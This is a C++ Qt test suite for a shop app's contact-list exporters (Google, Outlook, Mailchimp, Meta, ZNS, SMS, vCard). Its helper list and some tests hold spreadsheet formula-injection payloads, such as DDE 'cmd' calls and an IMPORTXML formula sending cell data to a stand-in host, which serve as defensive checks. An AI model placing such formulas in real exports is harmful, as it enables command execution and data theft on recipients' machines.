#include "core/exporting/advertiser_lists.h"
#include "core/exporting/clean_cells.h"
#include "core/exporting/contact_list.h"
#include "core/exporting/sender_lists.h"
#include "core/exporting/vcard.h"
#include "core/profile/profiles.h"
#include "core/sheet/csv_writer.h"
#include "core/sheet/row_source.h"
#include "support/test_shop.h"

#include <QCryptographicHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QtTest>

#include <numeric>

using namespace kq;
using namespace kq::test;
using namespace Qt::StringLiterals;

namespace {

Contact lan()
{
    Contact contact;
    contact.id = {1};
    contact.name = u"Nguyễn Thị Lan"_s;
    contact.phone = u"+84912345678"_s;
    contact.phones = {{u"+84912345678"_s, PhoneKind::Mobile},
                      {u"+842438251234"_s, PhoneKind::Fixed}};
    contact.emails = {u"lan@thu.vn"_s, u"hai@thu.vn"_s};
    contact.street = u"12 Lê Lợi, Quận 1, 700000"_s;
    contact.area = u"Hà Nội"_s;
    contact.code = u"KH01"_s;
    contact.tags = {u"VIP"_s, u"sỉ, lẻ"_s};
    contact.gender = Gender::Female;
    contact.birthday = Birthday{1990, 5, 31};
    contact.purchases = 3;
    contact.spend = {1'250'000};
    contact.lastPurchase = {2025, 2, 9};
    return contact;
}

Contact named(const QString &name)
{
    Contact contact = lan();
    contact.name = name;
    return contact;
}

const ListHeaders headers{u"Khách"_s,     u"Tên"_s,     u"SĐT"_s,       u"Email"_s,
                          u"Khu vực"_s,   u"Nhãn"_s,    u"Lần"_s,       u"Tiền"_s,
                          u"Gần"_s,       u"Nói gì"_s,  u"Đã gọi"_s,    u"Không nghe"_s,
                          u"Hẹn lại"_s,   u"Ghi chú"_s, u"Từ chối"_s,   u"Mã"_s,
                          u"Sinh nhật"_s, u"Địa chỉ"_s, u"Mã ưu đãi"_s, u"Phiếu gọi"_s};

std::unique_ptr<ListTarget> target(const ListOptions &options)
{
    return makeTarget(options, headers, Formatter(Language::Vietnamese, u"VND"_s));
}

/// The cell of @p contact under @p header.
QString cell(const ListTarget &list, const Contact &contact, const QString &header)
{
    const qsizetype column = list.headers().indexOf(header);
    return column < 0 ? u"no such column"_s : list.row(contact).at(column);
}

ListOptions options(ListFormat format, Hashing hashing = Hashing::Plain)
{
    ListOptions result;
    result.format = format;
    result.hashing = hashing;
    return result;
}

/// Signs by which spreadsheet programs take a cell for a formula: OWASP's list and full-width ones.
QStringList payloads()
{
    return {u"=1+1"_s,
            u"+84"_s,
            u"-2+3+cmd|' /C calc'!A0"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            QString(QChar(0)) + u"=1+1"_s,
            u"\n=HYPERLINK(\"http://x\",\"y\")"_s,
            u"＝1+1"_s,
            u"＋1"_s,
            u"－1"_s,
            u"＠SUM(1)"_s,
            u"=cmd|'/C calc'!A0"_s,
            u"=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"_s};
}

/// A shop of @p count people, each with a number of their own.
TestShop shopOf(int count)
{
    TestShop shop;
    for (int i = 1; i <= count; ++i) {
        Customer customer;
        customer.id = {i};
        customer.name = u"Trần Văn %1"_s.arg(i);
        customer.phones = {{u"+8491%1"_s.arg(i, 7, 10, QLatin1Char('0')), PhoneKind::Mobile}};
        customer.emails = {u"k%1@thu.vn"_s.arg(i)};
        shop.customers.push_back(customer);
    }
    return shop;
}

} // namespace

class TstListTargets : public QObject {
    Q_OBJECT
private slots:
    void init() { QTest::failOnWarning(QRegularExpression(u".?"_s)); }

    void everyFormatHasATarget_data();
    void everyFormatHasATarget();
    void headersStandToTheLetter_data();
    void headersStandToTheLetter();
    void splitsVietnameseNames_data();
    void splitsVietnameseNames();
    void googleJoinsSeveralValues();
    void outlookPutsNumbersByTheirKind();
    void mailchimpTakesDatesAndAddressesInItsForm();
    void hashesAreThoseOfThePublishedExamples();
    void advertisersNormaliseInTheirOwnWay();
    void znsTakesParametersOfTheTemplate();
    void znsParametersAreReadOrRefused();
    void aCodeThatIsWantedStandsInTheList_data();
    void aCodeThatIsWantedStandsInTheList();
    void smsNamesArePlainLetters();
    void cardsAreEscapedAndFolded();
    void cardsOfVersionFourHaveTheirForms();
    void machinesNeverGetAFormula_data();
    void machinesNeverGetAFormula();
    void aCellThatWouldBeRefusedIsFoundBeforehand();
    void longListsBecomeSeveralFiles();
    void aListThatFailsLeavesTheOldFile();
    void otherReadersFindTheSameCells();
    void millerFindsTheSameCells_data();
    void millerFindsTheSameCells();
    void aCallSheetGoesOnPaper();
    void vobjectReadsTheCards();

private:
    QJsonArray readBy(const QString &how, const QString &path, bool &absent) const;
    QStringList write(const ListOptions &options, const TestShop &shop, const QString &name);

    QTemporaryDir m_folder;
};

void TstListTargets::everyFormatHasATarget_data()
{
    QTest::addColumn<ListFormat>("format");
    for (const auto &[format, key] : KeyTable<ListFormat>::entries)
        QTest::newRow(key) << format;
}

void TstListTargets::everyFormatHasATarget()
{
    QFETCH(const ListFormat, format);
    const auto list = target(options(format));
    QVERIFY(list);
    QCOMPARE(list->row(lan()).size(), list->headers().size());
    const Result<void> checked = list->check(list->row(lan()));
    QVERIFY2(checked, checked ? "" : qPrintable(checked.error().place));
}

void TstListTargets::headersStandToTheLetter_data()
{
    QTest::addColumn<ListFormat>("format");
    QTest::addColumn<QString>("first");
    QTest::addColumn<QString>("last");
    QTest::addColumn<int>("columns");
    QTest::newRow("google") << ListFormat::Google << u"First Name"_s << u"Custom Field 1 - Value"_s
                            << 36;
    QTest::newRow("outlook") << ListFormat::Outlook << u"Title"_s << u"Web Page"_s << 92;
    QTest::newRow("mailchimp") << ListFormat::Mailchimp << u"Email Address"_s << u"Tags"_s << 7;
    QTest::newRow("meta") << ListFormat::Meta << u"email"_s << u"gen"_s << 9;
    QTest::newRow("google-ads") << ListFormat::GoogleAds << u"Email"_s << u"Zip"_s << 6;
    QTest::newRow("sms") << ListFormat::Sms << u"phone"_s << u"name"_s << 2;
    QTest::newRow("zns") << ListFormat::Zns << u"phone"_s << u"name"_s << 2;
}

void TstListTargets::headersStandToTheLetter()
{
    QFETCH(const ListFormat, format);
    QFETCH(const QString, first);
    QFETCH(const QString, last);
    QFETCH(const int, columns);
    const QStringList found = target(options(format))->headers();
    QCOMPARE(found.first(), first);
    QCOMPARE(found.last(), last);
    QCOMPARE(found.size(), columns);
}

void TstListTargets::splitsVietnameseNames_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("given");
    QTest::addColumn<QString>("middle");
    QTest::addColumn<QString>("family");
    QTest::addColumn<QString>("business");
    QTest::newRow("three words") << u"Nguyễn Thị Lan"_s << u"Lan"_s << u"Thị"_s << u"Nguyễn"_s
                                 << QString();
    QTest::newRow("two words") << u"Trần Đức"_s << u"Đức"_s << QString() << u"Trần"_s << QString();
    QTest::newRow("one word") << u"Lan"_s << u"Lan"_s << QString() << QString() << QString();
    QTest::newRow("business") << u"Công ty TNHH Mai Anh"_s << QString() << QString() << QString()
                              << u"Công ty TNHH Mai Anh"_s;
    QTest::newRow("formula") << u"=Nguyễn Thị Lan"_s << u"Lan"_s << u"Thị"_s << u"Nguyễn"_s
                             << QString();
}

void TstListTargets::splitsVietnameseNames()
{
    QFETCH(const QString, name);
    QFETCH(const QString, given);
    QFETCH(const QString, middle);
    QFETCH(const QString, family);
    QFETCH(const QString, business);
    const auto google = target(options(ListFormat::Google));
    QCOMPARE(cell(*google, named(name), u"First Name"_s), given);
    QCOMPARE(cell(*google, named(name), u"Middle Name"_s), middle);
    QCOMPARE(cell(*google, named(name), u"Last Name"_s), family);
    QCOMPARE(cell(*google, named(name), u"Organization Name"_s), business);
    const auto outlook = target(options(ListFormat::Outlook));
    QCOMPARE(cell(*outlook, named(name), u"First Name"_s), given);
    QCOMPARE(cell(*outlook, named(name), u"Company"_s), business);
}

void TstListTargets::googleJoinsSeveralValues()
{
    const auto google = target(options(ListFormat::Google));
    QCOMPARE(cell(*google, lan(), u"Phone 1 - Value"_s), u"+84912345678 ::: +842438251234"_s);
    QCOMPARE(cell(*google, lan(), u"Phone 1 - Label"_s), u"Mobile ::: Home"_s);
    QCOMPARE(cell(*google, lan(), u"E-mail 1 - Value"_s), u"lan@thu.vn ::: hai@thu.vn"_s);
    QCOMPARE(cell(*google, lan(), u"Labels"_s), u"* myContacts ::: VIP ::: sỉ, lẻ"_s);
    QCOMPARE(cell(*google, lan(), u"Birthday"_s), u"1990-05-31"_s);
    QCOMPARE(cell(*google, lan(), u"Address 1 - Postal Code"_s), u"700000"_s);
    Contact yearless = lan();
    yearless.birthday = Birthday{0, 5, 3};
    QCOMPARE(cell(*google, yearless, u"Birthday"_s), u"--05-03"_s);
}

void TstListTargets::outlookPutsNumbersByTheirKind()
{
    const auto outlook = target(options(ListFormat::Outlook));
    QCOMPARE(cell(*outlook, lan(), u"Mobile Phone"_s), u"+84912345678"_s);
    QCOMPARE(cell(*outlook, lan(), u"Home Phone"_s), u"+842438251234"_s);
    QCOMPARE(cell(*outlook, lan(), u"E-mail 2 Address"_s), u"hai@thu.vn"_s);
    QCOMPARE(cell(*outlook, lan(), u"E-mail 3 Type"_s), QString());
    QCOMPARE(cell(*outlook, lan(), u"Categories"_s), u"VIP;sỉ, lẻ"_s);
}

void TstListTargets::mailchimpTakesDatesAndAddressesInItsForm()
{
    const auto mailchimp = target(options(ListFormat::Mailchimp));
    QCOMPARE(cell(*mailchimp, lan(), u"Birthday"_s), u"05/31"_s);
    QCOMPARE(cell(*mailchimp, lan(), u"Address"_s), u"12 Lê Lợi  Quận 1  700000  Hà Nội  VN"_s);
    QCOMPARE(cell(*mailchimp, lan(), u"Tags"_s), u"VIP,sỉ lẻ"_s);
    ListOptions withCodes = options(ListFormat::Mailchimp);
    withCodes.withVouchers = true;
    Contact lucky = lan();
    lucky.voucher = u"TET-7K2M"_s;
    QCOMPARE(cell(*target(withCodes), lucky, u"Voucher"_s), u"TET-7K2M"_s);
    QVERIFY(!mailchimp->headers().contains(u"Voucher"_s));
    Contact wordy = lan();
    wordy.name = QString(300, u'ế');
    const QString cut = cell(*mailchimp, wordy, u"First Name"_s);
    QCOMPARE(cut.toUtf8().size(), 255); // three bytes each
}

void TstListTargets::hashesAreThoseOfThePublishedExamples()
{
    // FIPS 180-4, the one-block example of SHA-256.
    QCOMPARE(sha256Of(u"abc"_s),
             u"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"_s);
    // Meta, "Customer file custom audiences": hashing of an e-mail and of a country.
    QCOMPARE(sha256Of(u"mary@example.com"_s),
             u"f1904cf1a9d73a55fa5de0ac823c4403ded71afd4c3248d00bdcd0866552bb79"_s);
    QCOMPARE(sha256Of({}), QString());
}

void TstListTargets::advertisersNormaliseInTheirOwnWay()
{
    Contact contact = named(u"NGUYỄN Thị L’Lan"_s);
    contact.emails = {u"Nguyen.Lan@Gmail.com"_s};
    const auto meta = target(options(ListFormat::Meta));
    QCOMPARE(cell(*meta, contact, u"phone"_s), u"84912345678"_s);
    QCOMPARE(cell(*meta, contact, u"email"_s), u"nguyen.lan@gmail.com"_s);
    QCOMPARE(cell(*meta, contact, u"ln"_s), u"nguyễn"_s);
    QCOMPARE(cell(*meta, contact, u"ct"_s), u"hànội"_s);
    QCOMPARE(cell(*meta, contact, u"country"_s), u"vn"_s);
    QCOMPARE(cell(*meta, contact, u"dob"_s), u"19900531"_s);
    QCOMPARE(cell(*meta, contact, u"gen"_s), u"f"_s);
    const auto hashedMeta = target(options(ListFormat::Meta, Hashing::Sha256));
    QCOMPARE(cell(*hashedMeta, contact, u"phone"_s), sha256Of(u"84912345678"_s));
    QCOMPARE(cell(*hashedMeta, contact, u"country"_s), sha256Of(u"vn"_s));

    const auto google = target(options(ListFormat::GoogleAds));
    QCOMPARE(cell(*google, contact, u"Phone"_s), u"+84912345678"_s);
    QCOMPARE(cell(*google, contact, u"Country"_s), u"VN"_s);
    const auto hashedGoogle = target(options(ListFormat::GoogleAds, Hashing::Sha256));
    QCOMPARE(cell(*hashedGoogle, contact, u"Phone"_s), sha256Of(u"+84912345678"_s));
    QCOMPARE(cell(*hashedGoogle, contact, u"Last Name"_s), sha256Of(u"nguyễn"_s));
    QCOMPARE(cell(*hashedGoogle, contact, u"Country"_s), u"VN"_s);
    QCOMPARE(cell(*hashedGoogle, contact, u"Zip"_s), u"700000"_s);
}

void TstListTargets::znsTakesParametersOfTheTemplate()
{
    ListOptions zns = options(ListFormat::Zns);
    zns.parameters = *readZnsParameters(u"customer_name=name,order_date=last_date,total,ma=code"_s);
    const auto list = target(zns);
    QCOMPARE(list->headers(),
             QStringList({u"phone"_s, u"customer_name"_s, u"order_date"_s, u"total"_s, u"ma"_s}));
    QCOMPARE(list->row(lan()), QStringList({u"84912345678"_s, u"Nguyễn Thị Lan"_s, u"09/02/2025"_s,
                                            u"1250000"_s, u"KH01"_s}));
    const QString name =
        cell(*list, named(u"Công Tằng Tôn Nữ Thị Hoàng Phương Bảo Ngọc"_s), u"customer_name"_s);
    QVERIFY(name.size() <= 30);
    QVERIFY(name.endsWith(u"Bảo Ngọc"_s));
    QCOMPARE(list->rowsPerFile(), std::size_t{100'000});
}

void TstListTargets::znsParametersAreReadOrRefused()
{
    QCOMPARE(readZnsParameters({})->size(), std::size_t{0});
    QCOMPARE(readZnsParameters(u"tên=name"_s).error().code, ErrorCode::BadParameter);
    QCOMPARE(readZnsParameters(u"a-b=name"_s).error().found, u"a-b=name"_s);
    QCOMPARE(readZnsParameters(u"name=shoe"_s).error().code, ErrorCode::BadParameter);
    // Two columns of one name would be refused; one is there already.
    QCOMPARE(readZnsParameters(u"a=name,a=total"_s).error().found, u"a=total"_s);
    QCOMPARE(readZnsParameters(u"phone=code"_s).error().found, u"phone=code"_s);
}

void TstListTargets::aCodeThatIsWantedStandsInTheList_data()
{
    QTest::addColumn<ListFormat>("format");
    for (const auto &[format, key] : KeyTable<ListFormat>::entries)
        QTest::newRow(key) << format;
}

void TstListTargets::aCodeThatIsWantedStandsInTheList()
{
    QFETCH(const ListFormat, format);
    ListOptions withCodes = options(format);
    withCodes.withVouchers = true;
    withCodes.parameters = {{u"ma"_s, ZnsParameter::Value::Voucher}};
    Contact lucky = lan();
    lucky.voucher = u"TET-7K2M"_s;
    QCOMPARE(target(withCodes)->row(lucky).contains(lucky.voucher), carriesVouchers(format));
}

void TstListTargets::smsNamesArePlainLetters()
{
    const auto sms = target(options(ListFormat::Sms));
    QCOMPARE(sms->row(named(u"Đỗ Thị Hằng"_s)), QStringList({u"84912345678"_s, u"Do Thi Hang"_s}));
    ListOptions merged = options(ListFormat::Sms);
    merged.withMessages = true;
    Contact contact = lan();
    contact.message = u"Chao chi Lan"_s;
    contact.messageParts = 1;
    QCOMPARE(target(merged)->row(contact),
             QStringList({u"84912345678"_s, u"Chao chi Lan"_s, u"1"_s}));
}

void TstListTargets::cardsAreEscapedAndFolded()
{
    Contact contact = lan();
    contact.street = u"Số 5; ngõ 7, phố Nguyễn Đình Chiểu, phường Lê Đại Hành, quận Hai Bà Trưng"_s;
    const QString card = vCardOf(contact, VCardVersion::V3, u"VN"_s);
    for (const QByteArray &line : card.toUtf8().split('\n'))
        QVERIFY2(line.size() <= 76, line.constData()); // with the carriage return
    QVERIFY(card.endsWith(u"END:VCARD\r\n"_s));
    QString unfolded = card;
    unfolded.remove(u"\r\n "_s);
    QVERIFY(unfolded.contains(u"\r\nN:Nguyễn;Lan;Thị;;\r\n"_s));
    QVERIFY(unfolded.contains(u"\r\nFN:Nguyễn Thị Lan\r\n"_s));
    QVERIFY(unfolded.contains(u"\r\nTEL;TYPE=CELL:+84912345678\r\n"_s));
    QVERIFY(unfolded.contains(u"\r\nBDAY:1990-05-31\r\n"_s));
    QVERIFY(unfolded.contains(u"ADR;TYPE=HOME:;;Số 5\\; ngõ 7\\, phố"_s));
    QVERIFY(unfolded.contains(u"\r\nCATEGORIES:VIP,sỉ\\, lẻ\r\n"_s));
}

void TstListTargets::cardsOfVersionFourHaveTheirForms()
{
    Contact contact = lan();
    contact.birthday = Birthday{0, 5, 31};
    const QString card = vCardOf(contact, VCardVersion::V4, u"VN"_s);
    QVERIFY(card.startsWith(u"BEGIN:VCARD\r\nVERSION:4.0\r\n"_s));
    QVERIFY(card.contains(u"\r\nTEL;VALUE=uri;TYPE=cell:tel:+84912345678\r\n"_s));
    QVERIFY(card.contains(u"\r\nBDAY:--0531\r\n"_s));
    QVERIFY(!vCardOf(contact, VCardVersion::V3, u"VN"_s).contains(u"BDAY"_s));
}

void TstListTargets::machinesNeverGetAFormula_data()
{
    QTest::addColumn<QString>("payload");
    int number = 0;
    for (const QString &payload : payloads())
        QTest::addRow("payload %d", ++number) << payload;
}

void TstListTargets::machinesNeverGetAFormula()
{
    QFETCH(const QString, payload);
    Contact contact = named(payload);
    contact.street = payload;
    contact.area = payload;
    contact.tags = {payload};
    contact.code = payload;
    for (const auto &[format, key] : KeyTable<ListFormat>::entries) {
        if (format == ListFormat::Csv || format == ListFormat::Xlsx ||
            format == ListFormat::CallSheet || format == ListFormat::CallPaper)
            continue; // guarded or typed by their writers
        ListOptions wanted = options(format);
        wanted.parameters = {{u"ten"_s, ZnsParameter::Value::Name},
                             {u"khu_vuc"_s, ZnsParameter::Value::Area}};
        const auto list = target(wanted);
        const QStringList row = list->row(contact);
        if (format == ListFormat::VCard) {
            const QRegularExpression begins(u":[=@\\t＝＋－＠]|[^:]\\r[^\\n]"_s);
            QVERIFY2(!row.first().contains(begins), qPrintable(row.first()));
            continue;
        }
        const Result<void> checked = list->check(row);
        QVERIFY2(checked, key);
    }
}

void TstListTargets::aCellThatWouldBeRefusedIsFoundBeforehand()
{
    ListOptions zns = options(ListFormat::Zns);
    zns.parameters = {{u"ma"_s, ZnsParameter::Value::Code}};
    Contact contact = lan();
    contact.code = QString(31, u'x');
    const auto list = target(zns);
    const Result<void> checked = list->check(list->row(contact));
    QVERIFY(!checked);
    QCOMPARE(checked.error().code, ErrorCode::UnfitListValue);
    QCOMPARE(checked.error().place, u"ma"_s);
}

QStringList TstListTargets::write(const ListOptions &wanted, const TestShop &shop,
                                  const QString &name)
{
    Unwatched control;
    const auto profiles = profilesOf(shop);
    std::vector<std::size_t> people(profiles->size());
    std::iota(people.begin(), people.end(), std::size_t{0});
    const ListJob job{people, wanted, headers, m_folder.filePath(name)};
    const EvaluationContext context{*profiles, QDate(2025, 6, 30), u"VN"_s};
    const auto written =
        writeContactList(job, Formatter(Language::Vietnamese, u"VND"_s), context, control);
    return written ? *written : QStringList();
}

void TstListTargets::longListsBecomeSeveralFiles()
{
    const QStringList files = write(options(ListFormat::Google), shopOf(3'001), u"g.csv"_s);
    QCOMPARE(files, QStringList({m_folder.filePath(u"g.csv"_s), m_folder.filePath(u"g-2.csv"_s)}));
    const auto linesOf = [](const QString &path) {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.readAll().count("\r\n") : -1;
    };
    QCOMPARE(linesOf(files.first()), 3'001);
    QCOMPARE(linesOf(files.last()), 2); // the header stands in each
}

void TstListTargets::aListThatFailsLeavesTheOldFile()
{
    QFile old(m_folder.filePath(u"old.csv"_s));
    QVERIFY(old.open(QIODevice::WriteOnly));
    old.write("old");
    old.close();
    TestShop shop = shopOf(2);
    shop.customers.back().codes = {{{1}, QString(40, u'x')}};
    shop.sources = {{{1}, u"till"_s}};
    ListOptions zns = options(ListFormat::Zns);
    zns.parameters = {{u"ma"_s, ZnsParameter::Value::Code}};
    QCOMPARE(write(zns, shop, u"old.csv"_s), QStringList());
    QVERIFY(old.open(QIODevice::ReadOnly));
    QCOMPARE(old.readAll(), QByteArray("old"));
}

QJsonArray TstListTargets::readBy(const QString &how, const QString &path, bool &absent) const
{
    QProcess python;
    python.start(QStringLiteral(KQ_PYTHON), {QStringLiteral(KQ_READER), how, path});
    python.waitForFinished(60'000);
    absent = python.exitCode() == 77;
    if (!absent && python.exitCode() != 0)
        qCritical("%s", python.readAllStandardError().constData());
    return QJsonDocument::fromJson(python.readAllStandardOutput()).array();
}

void TstListTargets::otherReadersFindTheSameCells()
{
    if (qstrlen(KQ_PYTHON) == 0 || QStringLiteral(KQ_PYTHON).endsWith(u"NOTFOUND"_s))
        QSKIP("Python is not here to read the files.");
    TestShop shop = shopOf(2);
    shop.customers.front().name = u"Lê \"Bé\", An"_s;
    shop.customers.back().name = u"=cmd|'/C calc'!A0"_s;
    for (const ListFormat format : {ListFormat::Csv, ListFormat::Google, ListFormat::Outlook,
                                    ListFormat::Mailchimp, ListFormat::Meta, ListFormat::Sms}) {
        const QStringList files = write(options(format), shop, u"r.csv"_s);
        QCOMPARE(files.size(), 1);
        bool absent = false;
        const QJsonArray rows = readBy(u"csv"_s, files.first(), absent);
        QCOMPARE(rows.size(), 3);
        const auto list = target(options(format));
        QCOMPARE(rows[0].toVariant().toStringList(), list->headers());
        for (const QJsonValue row : rows)
            QCOMPARE(row.toArray().size(), list->headers().size());
        if (format == ListFormat::Csv) {
            QCOMPARE(rows[1][0].toString(), u"Lê \"Bé\", An"_s);
            QCOMPARE(rows[2][0].toString(), u"'=cmd|'/C calc'!A0"_s);
        }
    }
}

void TstListTargets::millerFindsTheSameCells_data()
{
    QTest::addColumn<ListFormat>("format");
    for (const ListFormat format :
         {ListFormat::Csv, ListFormat::Google, ListFormat::Outlook, ListFormat::Mailchimp,
          ListFormat::Meta, ListFormat::GoogleAds, ListFormat::Zns, ListFormat::Sms})
        QTest::newRow(qPrintable(keyOf(format))) << format;
}

void TstListTargets::millerFindsTheSameCells()
{
    QFETCH(const ListFormat, format);
    const QString miller = QStandardPaths::findExecutable(u"mlr"_s);
    if (miller.isEmpty())
        QSKIP("Miller (Debian: miller) is not here to read the list.");
    TestShop shop = shopOf(3);
    shop.customers[0].name = u"Lê \"Bé\", An; Bình"_s;
    shop.customers[1].name = u"=cmd|'/C calc'!A0"_s;
    shop.customers[2].address = u"12 Lê Lợi,\nphường 5"_s;
    const QStringList files = write(options(format), shop, u"m.csv"_s);
    QCOMPARE(files.size(), 1);
    QProcess reader;
    reader.start(miller, {u"-S"_s, u"--icsv"_s, u"--implicit-csv-header"_s, u"--ojson"_s, u"cat"_s,
                          files.first()});
    QVERIFY(reader.waitForFinished(60'000));
    QCOMPARE(reader.exitCode(), 0);
    const QJsonArray rows = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
    QCOMPARE(rows.size(), 4);
    const auto list = target(options(format));
    const auto cellsOf = [&](const QJsonValue &row) {
        QStringList cells;
        for (int column = 1; column <= list->headers().size(); ++column)
            cells.append(row.toObject().value(QString::number(column)).toString());
        return cells;
    };
    QCOMPARE(cellsOf(rows[0]), list->headers());
    bool absent = false;
    const QJsonArray same = readBy(u"csv"_s, files.first(), absent);
    for (int row = 1; row <= 3; ++row) {
        QCOMPARE(rows[row].toObject().size(), list->headers().size());
        if (!same.isEmpty())
            QCOMPARE(cellsOf(rows[row]), same[row].toVariant().toStringList());
    }
}

void TstListTargets::aCallSheetGoesOnPaper()
{
    ListOptions paper = options(ListFormat::CallPaper);
    paper.withMessages = true;
    const auto list = target(paper);
    const QStringList row = list->row(lan());
    QCOMPARE(row[0], lan().name);
    QCOMPARE(row[1], phoneForPeople(lan().phone));
    QStringList boxes;
    for (const ListColumn &column : list->columns()) {
        if (column.toTick)
            boxes.append(column.header);
    }
    QCOMPARE(boxes, (QStringList{u"Đã gọi"_s, u"Không nghe"_s, u"Hẹn lại"_s, u"Từ chối"_s}));
    // Without somebody who prints there is no file.
    QCOMPARE(write(paper, shopOf(1), u"calls.pdf"_s), QStringList());
    QVERIFY(!QFile::exists(m_folder.filePath(u"calls.pdf"_s)));
}

void TstListTargets::vobjectReadsTheCards()
{
    if (qstrlen(KQ_PYTHON) == 0 || QStringLiteral(KQ_PYTHON).endsWith(u"NOTFOUND"_s))
        QSKIP("Python is not here to read the cards.");
    TestShop shop = shopOf(2);
    Customer &first = shop.customers.front();
    first.name = u"Nguyễn Thị Lan"_s;
    first.address = u"Số 5; ngõ 7, phố Nguyễn Đình Chiểu, phường Lê Đại Hành\nHà Nội"_s;
    first.birthday = Birthday{1990, 5, 31};
    first.tags = {u"VIP"_s, u"sỉ, lẻ"_s};
    const QStringList files = write(options(ListFormat::VCard), shop, u"r.vcf"_s);
    bool absent = false;
    const QJsonArray cards = readBy(u"vcard"_s, files.value(0), absent);
    if (absent)
        QSKIP("vobject (python3-vobject) is not here to read the cards.");
    QCOMPARE(cards.size(), 2);
    const QJsonObject card = cards[0].toObject();
    QCOMPARE(card["fn"_L1].toString(), u"Nguyễn Thị Lan"_s);
    QCOMPARE(card["family"_L1].toString(), u"Nguyễn"_s);
    QCOMPARE(card["given"_L1].toString(), u"Lan"_s);
    QCOMPARE(card["tel"_L1].toVariant().toStringList(), QStringList{u"+84910000001"_s});
    QCOMPARE(card["street"_L1].toString(),
             u"Số 5; ngõ 7, phố Nguyễn Đình Chiểu, phường Lê Đại Hành Hà Nội"_s);
    QCOMPARE(card["bday"_L1].toString(), u"1990-05-31"_s);
    QCOMPARE(card["categories"_L1].toVariant().toStringList(),
             QStringList({u"VIP"_s, u"sỉ, lẻ"_s}));
}

QTEST_GUILESS_MAIN(TstListTargets)
#include "tst_list_targets.moc"
